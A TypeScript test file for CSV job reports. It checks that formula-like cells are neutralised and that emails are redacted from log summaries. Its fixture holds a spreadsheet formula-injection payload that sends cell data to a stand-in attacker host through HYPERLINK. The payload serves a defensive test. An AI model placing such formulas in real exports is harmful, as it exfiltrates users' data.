import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Outcome } from '../../src/core/jobs/bulkTask';
import { neutralizeCell, reportCsv, reportOf, reportSummaryLines } from '../../src/core/jobs/report';

describe('job reports', () => {
  it('never writes a live formula into the CSV (a team named =HYPERLINK(…) went in as one)', () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&A3,"Open")';
    const outcomes: Outcome<string>[] = [
      { item: evil, status: 'done' },
      { item: '+1 555', status: 'failed', reason: '-minus' },
      { item: '@SUM(A1)', status: 'skipped', reason: '\tTabbed' },
      { item: '\rCR', status: 'unknown', reason: 'plain' },
      { item: 'ada@example.com', status: 'done', note: 'a-ok' },
    ];
    const rows: string[][] = parse(reportCsv(reportOf('T', outcomes, (s) => s)));
    assert.deepEqual(
      rows.slice(1).map((r) => r[0]),
      [`'${evil}`, "'+1 555", "'@SUM(A1)", "'\rCR", 'ada@example.com'],
    );
    assert.deepEqual(
      rows.slice(1).map((r) => r[2]),
      ['', "'-minus", "'\tTabbed", 'plain', 'a-ok'],
    );
    assert.ok(rows.slice(1).every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))));
    assert.equal(neutralizeCell('safe = text'), 'safe = text');
  });

  it('keeps counts and failure reasons for the log, without the people they concern', () => {
    const outcomes: Outcome<string>[] = [
      { item: 'a@example.com', status: 'done' },
      { item: 'b@example.com', status: 'failed', reason: 'ElevenLabs: b@example.com is not in this workspace.' },
      { item: 'c@example.com', status: 'failed', reason: 'ElevenLabs: c@example.com is not in this workspace.' },
    ];
    const lines = reportSummaryLines('Share', outcomes);
    assert.deepEqual(lines, [
      'Share: 1 done, 2 failed, 0 skipped, 0 unknown',
      'Share: 2 × failed: ElevenLabs: <email> is not in this workspace.',
    ]);
  });
});
